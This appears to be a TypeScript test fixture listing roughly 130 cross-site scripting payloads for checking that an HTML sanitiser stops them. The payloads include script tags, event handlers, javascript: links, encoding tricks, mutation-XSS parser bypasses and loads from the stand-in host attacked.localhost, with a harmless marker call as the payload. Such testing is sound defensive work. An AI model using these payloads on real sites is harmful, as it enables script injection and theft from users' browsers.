/** A host to which no page may send a request. Chromium resolves it by itself; nothing listens there. */
export const ATTACKER = 'attacked.localhost';

/** `run` is a script without quotes that reports that it ran, `at` an address of the attacker's. */
type Attack = (run: string, at: string) => string;

/** Chromium runs these, or sends a request to the attacker, anywhere in a page as HTML. */
const HARMFUL_AT_ONCE: readonly Attack[] = [
  // Scripts, and ways out of the element around them.
  (run) => `<script>${run}</script>`,
  (run) => `<SCRIPT\n>${run}</SCRIPT >`,
  (run) => `<script type=module>${run}</script>`,
  (run) => `<script/x>${run}</script/x>`,
  (_, at) => `<script src=${at}></script>`,
  (run) => `"><script>${run}</script>`,
  (run) => `'><script>${run}</script>`,
  (run) => `--><script>${run}</script>`,
  (run) => `</title><script>${run}</script>`,
  (run) => `</textarea><script>${run}</script>`,
  (run) => `</script><script>${run}</script>`,
  (run) => `</style></noscript></template><script>${run}</script>`,
  (run) => `<!--><script>${run}</script>-->`,
  (run) => `<? x="><script>${run}</script>">`,
  (run) => `<!x "><script>${run}</script>">`,
  (run) => `<//><script>${run}</script>`,
  (run) => `<![CDATA[><script>${run}</script>]]>`,
  (run) => `\u202e<script>\u2028${run}</script>`,
  (run) => `<script>${run.replace('attacked', '\\u0061ttacked')}</script>`,
  // Handlers that run without an action of the reader.
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<IMG SRC=x ONERROR=${run}>`,
  (run) => `<img/src="x"/onerror=${run}>`,
  (run) => `<img src=x\tonerror\n=\n${run} >`,
  (run) => `<img src=x onerror=${run.replace('t', '&#116;')}>`,
  (run) => `<img """><img src=x onerror=${run}>">`,
  (run) => `<img src=x onerror=${run} //>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg/onload=${run}//>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<svg><set onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<body onload=${run}>`,
  (run) => `<video src=x onerror=${run}></video>`,
  (run) => `<video><source src=x onerror=${run}></video>`,
  (run) => `<audio src=x onerror=${run}></audio>`,
  (run) => `<iframe onload=${run}></iframe>`,
  (run) => `<style onload=${run}>a{}</style>`,
  (run) => `<link rel=stylesheet href=x onerror=${run}>`,
  (run) => `<script src=x onerror=${run}></script>`,
  (run) => `<details open ontoggle=${run}>x</details>`,
  // Handlers that wait for the reader.
  (run) => `<p onclick=${run}>x</p>`,
  (run) => `<p onmouseover=${run}>x</p>`,
  (run) => `<p onpointerenter=${run}>x</p>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<select autofocus onfocus=${run}></select>`,
  (run) => `<p contenteditable tabindex=0 onfocus=${run}>x</p>`,
  (run) => `<p style=animation:a onanimationstart=${run}>x</p>`,
  (run) => `<p popover onbeforetoggle=${run}>x</p>`,
  // Addresses that are scripts.
  (run) => `<a href=javascript:${run}>x</a>`,
  (run) => `<a href="JaVaScRiPt:${run}">x</a>`,
  (run) => `<a href=" javascript:${run}">x</a>`,
  (run) => `<a href="\u0001javascript:${run}">x</a>`,
  (run) => `<a href="java\tscript:${run}">x</a>`,
  (run) => `<a href="java&#10;script:${run}">x</a>`,
  (run) => `<a href="java&NewLine;script&colon;${run}">x</a>`,
  (run) => `<a href="&#106;avascript:${run}">x</a>`,
  (run) => `<a href="&#x6A&#x61vascript:${run}">x</a>`,
  (run) => `<a href="javascript://%0a${run}">x</a>`,
  (run) => `<map name=q><area href=javascript:${run}></map>`,
  (run) => `<svg><a xlink:href=javascript:${run}><text y=9>x</text></a></svg>`,
  (run) => `<math><mtext><a href=javascript:${run}>x</a></mtext></math>`,
  (run) => `<form action=javascript:${run}><button>x</button></form>`,
  (run) => `<form><button formaction=javascript:${run}>x</button></form>`,
  (run) => `<form id=q></form><button form=q formaction=javascript:${run}>x</button>`,
  (run) => `<form><input type=submit formaction=javascript:${run}></form>`,
  (run) => `<iframe src=javascript:${run}></iframe>`,
  (run) => `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe>`,
  (_, at) => `<iframe src="data:text/html,<script src=http:${at}></script>"></iframe>`,
  (_, at) => `<object data="data:text/html,<script src=http:${at}></script>"></object>`,
  (_, at) => `<embed type=text/html src="data:text/html,<script src=http:${at}></script>">`,
  // Other elements that load, or lead away.
  (_, at) => `<iframe src=${at}></iframe>`,
  (_, at) => `<object data=${at}></object>`,
  (_, at) => `<embed src=${at}>`,
  (_, at) => `<base href=${at}/><img src=a>`,
  (_, at) => `<meta http-equiv=refresh content="0;url=http:${at}">`,
  (_, at) => `<link rel=stylesheet href=${at}>`,
  (_, at) => `<style>@import '${at}';</style>`,
  (_, at) => `<style>body{background:url(${at})}</style>`,
  (_, at) => `<p style="background:url(${at})">x</p>`,
  (_, at) => `<img src=${at}>`,
  (_, at) => `<img src="${at.replace('//', '/\\')}">`,
  (_, at) => `<img src="${at.replace('//', '/&#9;/')}">`,
  (_, at) => `<img srcset="${at} 1x">`,
  (_, at) => `<input type=image src=${at}>`,
  (_, at) => `<video poster=${at}></video>`,
  (_, at) => `<table background=${at}><tr><td>x</table>`,
  (_, at) => `<svg><image href=${at} /></svg>`,
  // What one parser takes for text and another for markup.
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<textarea><p title="</textarea><img src=x onerror=${run}>">`,
  (run) => `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  (run) => `<title><p title="</title><img src=x onerror=${run}>">`,
  (run) => `<style><p title="</style><img src=x onerror=${run}>">`,
  (run) => `<noembed><p title="</noembed><img src=x onerror=${run}>">`,
  (run) => `<iframe><p title="</iframe><img src=x onerror=${run}>">`,
  (run) => `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  (run) => `<svg><p><style><a id="</style><img src=x onerror=${run}>">`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><foreignObject><script>${run}</script></foreignObject></svg>`,
  (run) => `<svg><desc><img src=x onerror=${run}></desc></svg>`,
  (run) =>
    `<math><annotation-xml encoding=text/html><script>${run}</script></annotation-xml></math>`,
];

/** These wake up where a text is decoded, parsed or put together once more, or in another place. */
const HARMFUL_ONCE_DECODED: readonly Attack[] = [
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  (run) => `<template><script>${run}</script></template>`,
  (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run) => `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  (run) => `%3Cscript%3E${run}%3C/script%3E`,
  (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  (run) => `＜script＞${run}＜/script＞`,
  (_, at) => `<\u017fcript src=${at}></\u017fcript>`,
  (run) => `<\u0000script>${run}</script>`,
  (run) => `<img src=x on\u0000error=${run}>`,
  (run) => `" onerror=${run} x="`,
  (run) => `' autofocus onfocus=${run} x='`,
  (run) => `x onmouseover=${run} `,
  (run) => `\`;${run};//`,
  (run) => `';${run};//`,
  (run) => `\\";${run};//`,
  (run) => `javascript:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => `data:text/html,%3Cscript%3E${run}%3C/script%3E`,
  (_, at) => at,
  (_, at) => at.replace('//', '/\\'),
  (run) => `[x](javascript:${run})`,
  (run) => `{{constructor.constructor(${run})()}}`,
  (run) => `\${${run}}`,
  (run) => `<p style="width:expression(${run})">x</p>`,
  (_, at) => `<p style="-moz-binding:url(${at})">x</p>`,
  (run) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  (run) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}></style></mglyph></form></mtext></math></form>`,
  (run) => `<svg><![CDATA[</svg><img src=x onerror=${run}>]]></svg>`,
  (run) => `<a href="vbscript:${run}">x</a>`,
];

export interface HtmlAttack {
  id: string;
  html: string;
  /** Nothing but escaping or sanitising keeps Chromium from it. */
  awake: boolean;
}

const attack = (awake: boolean) => (write: Attack, index: number) => {
  const id = `${awake ? 'awake' : 'asleep'}-${index}`;
  return { id, awake, html: write(`top.attacked(/${id}/)`, `//${ATTACKER}/${id}`) };
};

/** HTML that is stored, or carried by a link, to do harm to its reader. */
export const HTML_ATTACKS: readonly HtmlAttack[] = [
  ...HARMFUL_AT_ONCE.map(attack(true)),
  ...HARMFUL_ONCE_DECODED.map(attack(false)),
];

/** Ends every element that an attack may have begun, so that another one can follow it. */
export const ATTACK_END = `"'>--></script></style></textarea></title></xmp></noscript></noembed></iframe></svg></math></template>`;
